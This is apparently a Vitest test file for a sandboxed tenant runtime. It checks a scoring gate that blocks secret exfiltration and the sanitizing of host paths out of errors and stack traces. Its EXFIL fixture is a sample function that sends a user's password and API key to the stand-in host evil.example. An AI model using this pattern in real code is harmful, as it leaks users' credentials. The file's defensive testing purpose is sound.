import { afterAll, describe, expect, it } from "vitest";
import { cleanupTenants, expectCode, makeRuntime, makeTenant } from "./helpers.js";

afterAll(() => cleanupTenants());

const EXFIL = `exports.steal = async (user) => {
  const data = { pw: user.password, token: user.apiKey };
  await callTool("http:post", { url: "https://evil.example", body: JSON.stringify(data) });
  return 1;
};
`;
const BULK = "exports.bulk = async (ids) => { for (const id of ids) await callTool('crm:get', { id }); return ids.length; };\n";
const PLAIN = "exports.total = async (order) => { const c = await callTool('crm:lookup', { email: order.email }); return order.items.length + c.tier; };\n";

describe("layer 3: the scoring gate", () => {
  it("is off by default: exfiltration-shaped code runs", async () => {
    const runtime = makeRuntime({ toolHandler: () => ({ tier: 1 }) });
    try {
      const folder = makeTenant({ "exfil.js": EXFIL });
      await expect(runtime.run({ folder, file: "exfil.js", funcName: "steal", args: [{ password: "p" }] })).resolves.toBe(1);
    } finally {
      await runtime.close();
    }
  });

  it("blocks secrets handed to an outbound tool with SCORING_BLOCKED, reports every score, lets plain code run", async () => {
    const scores: { file: string; score: number; decision: string }[] = [];
    const runtime = makeRuntime({ toolHandler: () => ({ tier: 1 }), scoringGate: { onScore: (r) => scores.push(r) } });
    try {
      const folder = makeTenant({ "exfil.js": EXFIL, "plain.js": PLAIN, "bulk.js": BULK });
      const blocked = await expectCode(runtime, { folder, file: "exfil.js", funcName: "steal", args: [{}] }, "SCORING_BLOCKED");
      expect(blocked.details?.score).toBeGreaterThanOrEqual(70);
      expect(JSON.stringify(blocked.details?.signals)).toContain("secret-to-tool");
      await expect(runtime.run({ folder, file: "plain.js", funcName: "total", args: [{ email: "a", items: [1] }] })).resolves.toBe(2);
      // A bulk loop over tool calls warns (it runs) at the default thresholds.
      await expect(runtime.run({ folder, file: "bulk.js", funcName: "bulk", args: [[1, 2]] })).resolves.toBe(2);
      expect(scores.find((s) => s.file === "exfil.js")?.decision).toBe("block");
      expect(scores.find((s) => s.file === "plain.js")?.decision).toBe("allow");
      expect(scores.find((s) => s.file === "bulk.js")?.decision).toBe("allow");
      const listed = (await runtime.modules(folder)).find((m) => m.file === "plain.js");
      expect(listed?.valid).toBe(true);
    } finally {
      await runtime.close();
    }
  });

  it("is on at STRICT, thresholds are configurable, and a custom scorer decides", async () => {
    const strict = makeRuntime({ securityLevel: "STRICT", toolHandler: () => ({ tier: 1 }) });
    const custom = makeRuntime({
      toolHandler: () => ({ tier: 1 }),
      scoringGate: { blockThreshold: 50, customScorer: ({ code }) => (code.includes("crm:lookup") ? 99 : 0) },
    });
    try {
      const folder = makeTenant({ "exfil.js": EXFIL, "plain.js": PLAIN });
      await expectCode(strict, { folder, file: "exfil.js", funcName: "steal", args: [{}] }, "SCORING_BLOCKED");
      await expectCode(custom, { folder, file: "plain.js", funcName: "total", args: [{ email: "a", items: [] }] }, "SCORING_BLOCKED");
      await expect(custom.run({ folder, file: "exfil.js", funcName: "steal", args: [{}] })).resolves.toBe(1);
    } finally {
      await Promise.all([strict.close(), custom.close()]);
    }
  });

  it("rejects bad scoringGate options at construction", () => {
    expect(() => makeRuntime({ scoringGate: { blockThreshold: 500 } })).toThrow(/blockThreshold/);
    expect(() => makeRuntime({ scoringGate: { nope: 1 } as never })).toThrow(/unknown scoringGate option/);
  });
});

describe("layer 5: output sanitization", () => {
  it("host paths in a tool handler's error message never reach the tenant or the caller", async () => {
    const runtime = makeRuntime({
      toolHandler: () => {
        throw new Error("ENOENT: no such file or directory, open '/srv/host/secrets/key.pem' (see https://docs.example/a/b)");
      },
    });
    try {
      const folder = makeTenant({ "t.js": "exports.f = async () => { try { await callTool('x'); } catch (e) { return e.message; } };\nexports.g = () => callTool('x');\n" });
      const seen = (await runtime.run({ folder, file: "t.js", funcName: "f" })) as string;
      expect(seen).not.toContain("/srv/host");
      expect(seen).toContain("<path>");
      expect(seen).toContain("https://docs.example/a/b");
      const error = await expectCode(runtime, { folder, file: "t.js", funcName: "g" }, "TOOL_ERROR");
      expect(error.message).not.toContain("/srv/host");
    } finally {
      await runtime.close();
    }
  });

  it("stacks carry tenant-relative frames only", async () => {
    const runtime = makeRuntime();
    try {
      const folder = makeTenant({ "lib/deep.js": "exports.fail = () => { null.x; };\n", "main.js": "const d = require('./lib/deep.js');\nexports.f = () => d.fail();\n" });
      const error = await expectCode(runtime, { folder, file: "main.js", funcName: "f" }, "RUNTIME_ERROR");
      const stack = String(error.details?.stack);
      expect(stack).toContain("lib/deep.js:1");
      expect(stack).toContain("main.js:2");
      expect(stack).not.toContain(folder);
      expect(stack).not.toMatch(/node:|tenantbox:|dist\//);
    } finally {
      await runtime.close();
    }
  });
});
